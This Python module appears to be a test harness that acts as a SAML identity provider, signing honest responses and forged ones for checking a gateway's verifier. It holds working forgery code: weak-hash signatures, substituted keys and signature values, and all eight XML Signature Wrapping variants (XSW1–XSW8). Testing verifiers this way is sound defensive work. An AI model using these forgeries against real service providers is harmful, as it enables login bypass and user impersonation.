"""A SAML identity provider that signs anything: honest responses, and every variation of a forger's.

    forge = SamlForge()
    forge.metadata()                                    what the operator configures
    draft = forge.draft(acs, audience, request_id, now)  an honest answer, as fields; None leaves one out
    forge.encode(forge.signed(draft))                   the SAMLResponse form field

It signs with its own code (lxml for the canonical form, cryptography for the mathematics), so that it can
sign what no library would, and so that the gateway's verifier is not measured with its own ruler.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import secrets
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID
from lxml import etree

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
XENC = "http://www.w3.org/2001/04/xmlenc#"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"
SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
PASSWORD = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
TOKEN = "urn:oasis:names:tc:SAML:2.0:ac:classes:TimeSyncToken"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"

RSA_SHA256, SHA256 = MORE + "rsa-sha256", XENC + "sha256"
SIGNATURES: dict[str, Any] = {
    MORE + "rsa-md5": hashes.MD5(),  # noqa: S303 - the forger's choice
    DS + "rsa-sha1": hashes.SHA1(),  # noqa: S303 - the forger's choice
    MORE + "rsa-sha224": hashes.SHA224(),
    RSA_SHA256: hashes.SHA256(),
    MORE + "rsa-sha384": hashes.SHA384(),
    MORE + "rsa-sha512": hashes.SHA512(),
    MORE + "ecdsa-sha256": hashes.SHA256(),
    MORE + "ecdsa-sha384": hashes.SHA384(),
    MORE + "hmac-sha256": None,
}
DIGESTS = {
    MORE + "md5": "md5",
    DS + "sha1": "sha1",
    MORE + "sha224": "sha224",
    SHA256: "sha256",
    MORE + "sha384": "sha384",
    XENC + "sha512": "sha512",
}
ENVELOPED = DS + "enveloped-signature"


@dataclass(frozen=True)
class Signing:
    """How one signature is made. The defaults are what an honest provider does."""

    key: Any = None  # the forge's own if None
    method: str = RSA_SHA256
    digest: str = SHA256
    transforms: tuple[str, ...] = (ENVELOPED, EXC)
    uri: str | None = None  # "#ID" of the element if None
    prefixes: str = ""  # InclusiveNamespaces
    references: int = 1
    certificate: bytes | None = None  # DER for KeyInfo; the forge's own if None
    key_info: bool = True
    value: str | None = None  # replaces SignatureValue
    digest_value: str | None = None


@dataclass(frozen=True)
class Draft:
    """The fields of a response. None leaves one out."""

    acs: str
    audience: str | None
    issuer: str | None
    response_issuer: str | None
    request_id: str | None
    confirmed_request_id: str | None
    destination: str | None
    recipient: str | None
    issued: datetime
    confirmed_until: datetime | None
    not_before: datetime | None
    not_on_or_after: datetime | None
    authenticated: datetime
    response_id: str
    assertion_id: str
    confirmed_from: datetime | None = None
    session_until: datetime | None = None
    subject: str = "alice"
    name_format: str | None = PERSISTENT
    sp_qualifier: str | None = None
    context: str = PASSWORD
    status: str = SUCCESS
    substatus: str | None = None
    methods: tuple[str, ...] = (BEARER,)
    conditions: bool = True
    confirmation_data: bool = True
    attributes: tuple[tuple[str, tuple[str, ...]], ...] = (
        ("groups", ("aws-dev", "everyone")),
        ("email", ("alice@example.com",)),
        ("department", ("Payments",)),
    )
    typed: bool = False  # xsi:type="xs:string", whose prefix only an InclusiveNamespaces list keeps
    extra: dict[str, str] = field(default_factory=dict)

    def but(self, **changes: Any) -> Draft:
        return replace(self, **changes)


class SamlForge:
    def __init__(
        self,
        entity_id: str = "https://idp.example.com/saml",
        sso_url: str = "https://idp.example.com/sso",
        key: Any = None,
    ) -> None:
        self.entity_id, self.sso_url = entity_id, sso_url
        self.key = key or rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.certificate = make_certificate(self.key)

    def metadata(self, certificates: tuple[bytes, ...] | None = None, use: str | None = "signing") -> str:
        role = _make(MD, "IDPSSODescriptor", protocolSupportEnumeration=SAMLP)
        for certificate in certificates if certificates is not None else (self.certificate,):
            descriptor = _sub(role, MD, "KeyDescriptor", **({"use": use} if use else {}))
            data = _sub(_sub(descriptor, DS, "KeyInfo"), DS, "X509Data")
            _sub(data, DS, "X509Certificate").text = base64.b64encode(certificate).decode()
        _sub(
            role,
            MD,
            "SingleSignOnService",
            Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect",
            Location=self.sso_url,
        )
        entity = _make(MD, "EntityDescriptor", entityID=self.entity_id)
        entity.append(role)
        return etree.tostring(entity).decode()

    def draft(self, acs: str, audience: str, request_id: str, now: datetime, /, **changes: Any) -> Draft:
        unique = secrets.token_hex(12)
        return Draft(
            acs=acs,
            audience=audience,
            issuer=self.entity_id,
            response_issuer=self.entity_id,
            request_id=request_id,
            confirmed_request_id=request_id,
            destination=acs,
            recipient=acs,
            issued=now,
            confirmed_until=now + timedelta(minutes=5),
            not_before=now - timedelta(seconds=30),
            not_on_or_after=now + timedelta(minutes=5),
            authenticated=now - timedelta(seconds=5),
            response_id=f"_r{unique}",
            assertion_id=f"_a{unique}",
        ).but(**changes)

    def signed(
        self, draft: Draft, assertion: Signing | None = Signing(), response: Signing | None = None
    ) -> etree._Element:
        """The document, with a signature on the assertion, on the response, on both or on neither."""
        root = build(draft)
        if assertion is not None:
            self.sign(root.find(f"{{{SAML}}}Assertion"), assertion)
        if response is not None:
            self.sign(root, response)
        return root

    def sign(self, element: Any, how: Signing = Signing()) -> etree._Element:
        """Put a signature after the element's Issuer (or first)."""
        signature = _make(DS, "Signature")
        info = _sub(signature, DS, "SignedInfo")
        _sub(info, DS, "CanonicalizationMethod", Algorithm=EXC)
        _sub(info, DS, "SignatureMethod", Algorithm=how.method)
        for _ in range(how.references):
            self._refer(info, element, how)
        issuer = element.find(f"{{{SAML}}}Issuer")
        element.insert(0 if issuer is None else 1, signature)
        value = _sub(signature, DS, "SignatureValue")
        value.text = how.value if how.value is not None else self._value(canonical(info), how)
        if how.key_info:
            data = _sub(_sub(signature, DS, "KeyInfo"), DS, "X509Data")
            shown = how.certificate or self.certificate
            _sub(data, DS, "X509Certificate").text = base64.b64encode(shown).decode()
        return signature

    def _refer(self, info: etree._Element, element: etree._Element, how: Signing) -> None:
        uri = f"#{element.get('ID')}" if how.uri is None else how.uri
        reference = _sub(info, DS, "Reference", URI=uri)
        transforms = _sub(reference, DS, "Transforms")
        for algorithm in how.transforms:
            step = _sub(transforms, DS, "Transform", Algorithm=algorithm)
            if algorithm == EXC and how.prefixes:
                etree.SubElement(step, f"{{{EXC}}}InclusiveNamespaces", {"PrefixList": how.prefixes}, nsmap={"ec": EXC})
        _sub(reference, DS, "DigestMethod", Algorithm=how.digest)
        octets = canonical(element, how.prefixes.split())
        name = DIGESTS.get(how.digest, "sha256")
        digest = base64.b64encode(hashlib.new(name, octets).digest()).decode()
        _sub(reference, DS, "DigestValue").text = digest if how.digest_value is None else how.digest_value

    def _value(self, octets: bytes, how: Signing) -> str:
        key, algorithm = how.key or self.key, SIGNATURES.get(how.method, hashes.SHA256())
        if isinstance(key, bytes):
            return base64.b64encode(hmac.new(key, octets, "sha256").digest()).decode()
        if isinstance(key, ec.EllipticCurvePrivateKey):
            r, s = decode_dss_signature(key.sign(octets, ec.ECDSA(algorithm)))
            size = (key.key_size + 7) // 8
            return base64.b64encode(r.to_bytes(size, "big") + s.to_bytes(size, "big")).decode()
        return base64.b64encode(key.sign(octets, padding.PKCS1v15(), algorithm)).decode()

    @staticmethod
    def encode(document: etree._Element | bytes | str) -> str:
        """The form field. Text and bytes are taken as they are."""
        if isinstance(document, str):
            document = document.encode()
        raw = document if isinstance(document, bytes) else etree.tostring(document)
        return base64.b64encode(raw).decode()


def build(draft: Draft) -> etree._Element:
    """The unsigned document."""
    root = _make(SAMLP, "Response", **_present(ID=draft.response_id, Version="2.0", IssueInstant=stamp(draft.issued)))
    root.attrib.update(_present(Destination=draft.destination, InResponseTo=draft.request_id))
    if draft.response_issuer is not None:
        _sub(root, SAML, "Issuer").text = draft.response_issuer
    code = _sub(_sub(root, SAMLP, "Status"), SAMLP, "StatusCode", Value=draft.status)
    if draft.substatus:
        _sub(code, SAMLP, "StatusCode", Value=draft.substatus)
    if draft.status == SUCCESS:
        root.append(build_assertion(draft))
    return root


def build_assertion(draft: Draft) -> etree._Element:
    assertion = _make(SAML, "Assertion", ID=draft.assertion_id, Version="2.0", IssueInstant=stamp(draft.issued))
    if draft.issuer is not None:
        _sub(assertion, SAML, "Issuer").text = draft.issuer
    _subject(assertion, draft)
    if draft.conditions:
        limits = _present(NotBefore=stamp(draft.not_before), NotOnOrAfter=stamp(draft.not_on_or_after))
        conditions = _sub(assertion, SAML, "Conditions", **limits)
        if draft.audience is not None:
            _sub(_sub(conditions, SAML, "AudienceRestriction"), SAML, "Audience").text = draft.audience
    times = _present(AuthnInstant=stamp(draft.authenticated), SessionNotOnOrAfter=stamp(draft.session_until))
    statement = _sub(assertion, SAML, "AuthnStatement", SessionIndex="_s1", **times)
    _sub(_sub(statement, SAML, "AuthnContext"), SAML, "AuthnContextClassRef").text = draft.context
    if draft.attributes:
        _attributes(assertion, draft)
    return assertion


def _subject(assertion: etree._Element, draft: Draft) -> None:
    subject = _sub(assertion, SAML, "Subject")
    name = _sub(subject, SAML, "NameID", **_present(Format=draft.name_format, SPNameQualifier=draft.sp_qualifier))
    name.text = draft.subject
    for method in draft.methods:
        confirmation = _sub(subject, SAML, "SubjectConfirmation", Method=method)
        data = _present(
            Recipient=draft.recipient,
            NotBefore=stamp(draft.confirmed_from),
            NotOnOrAfter=stamp(draft.confirmed_until),
            InResponseTo=draft.confirmed_request_id,
        )
        if draft.confirmation_data:
            _sub(confirmation, SAML, "SubjectConfirmationData", **data)


def _attributes(assertion: etree._Element, draft: Draft) -> None:
    statement = _sub(assertion, SAML, "AttributeStatement")
    for name, values in draft.attributes:
        attribute = _sub(statement, SAML, "Attribute", Name=name)
        for text in values:
            value = _sub(attribute, SAML, "AttributeValue")
            value.text = text
            if draft.typed:
                value.set("{http://www.w3.org/2001/XMLSchema-instance}type", "xs:string")


def canonical(element: etree._Element, prefixes: list[str] | None = None) -> bytes:
    """Exclusive canonical form without the element's own signature."""
    root = etree.fromstring(etree.tostring(element, with_tail=False))
    for signature in root.findall(f"{{{DS}}}Signature"):
        root.remove(signature)
    return etree.tostring(root, method="c14n", exclusive=True, inclusive_ns_prefixes=prefixes or [])


def make_certificate(key: Any, name: str = "idp.example.com") -> bytes:
    """A self-signed certificate, DER."""
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    builder = x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
    builder = builder.serial_number(x509.random_serial_number())
    builder = builder.not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=365))
    return builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)


def wrapped(root: etree._Element, variant: int, evil: etree._Element) -> etree._Element:
    """Signature wrapping XSW1 to XSW8 (Somorovsky et al., "On Breaking SAML", 2012): the signed original is
    moved where the signature still finds it, and `evil` stands where the program looks.
    """
    signed_response, root = copy.deepcopy(root), copy.deepcopy(root)
    assertion = root.find(f"{{{SAML}}}Assertion")
    assert assertion is not None
    match variant:
        case 1 | 2:  # the whole response inside the signature, or beside it
            outer = copy.deepcopy(root)
            old = outer.find(f"{{{DS}}}Signature")
            assert old is not None
            outer.set("ID", "_evil")
            outer.replace(_one(outer, "Assertion"), evil)
            inner = copy.deepcopy(signed_response)
            own = inner.find(f"{{{DS}}}Signature")
            assert own is not None
            inner.remove(own)
            if variant == 1:
                old.append(inner)
            else:
                outer.insert(outer.index(old), inner)
            return outer
        case 3:  # evil before the original, as a sibling
            root.insert(root.index(assertion), evil)
        case 4:  # the original inside evil
            root.replace(assertion, evil)
            evil.append(assertion)
        case 5:  # evil keeps the signature, the original without it comes last
            signature = _one(assertion, "Signature", DS)
            assertion.remove(signature)
            evil.insert(1, signature)
            root.insert(root.index(assertion), evil)
        case 6:  # evil with the signature, the original inside the signature
            signature = _one(assertion, "Signature", DS)
            assertion.remove(signature)
            evil.insert(1, signature)
            root.replace(assertion, evil)
            signature.append(assertion)
        case 7:  # the original in Extensions, evil in its place
            root.replace(assertion, evil)
            extensions = _make(SAMLP, "Extensions")
            extensions.append(assertion)
            root.insert(1, extensions)
        case 8:  # the original in an Object of evil's signature
            signature = _one(assertion, "Signature", DS)
            assertion.remove(signature)
            _sub(signature, DS, "Object").append(assertion)
            evil.insert(1, signature)
            root.append(evil)
        case _:
            raise ValueError(variant)
    return root


def _one(parent: etree._Element, name: str, namespace: str = SAML) -> etree._Element:
    found = parent.find(f"{{{namespace}}}{name}")
    assert found is not None
    return found


def stamp(moment: datetime | None) -> Any:
    return None if moment is None else moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _present(**values: str | None) -> dict[str, str]:
    return {name: value for name, value in values.items() if value is not None}


_PREFIXES = {
    "samlp": SAMLP,
    "saml": SAML,
    "xs": "http://www.w3.org/2001/XMLSchema",
    "xsi": "http://www.w3.org/2001/XMLSchema-instance",
}


def _make(namespace: str, name: str, **attributes: str) -> etree._Element:
    nsmap = {"ds": DS} if namespace == DS else {"md": MD} if namespace == MD else _PREFIXES
    return etree.Element(f"{{{namespace}}}{name}", attributes, nsmap=nsmap)


def _sub(parent: etree._Element, namespace: str, name: str, **attributes: str) -> etree._Element:
    nsmap = {"ds": DS} if namespace == DS else None
    return etree.SubElement(parent, f"{{{namespace}}}{name}", attributes, nsmap=nsmap)
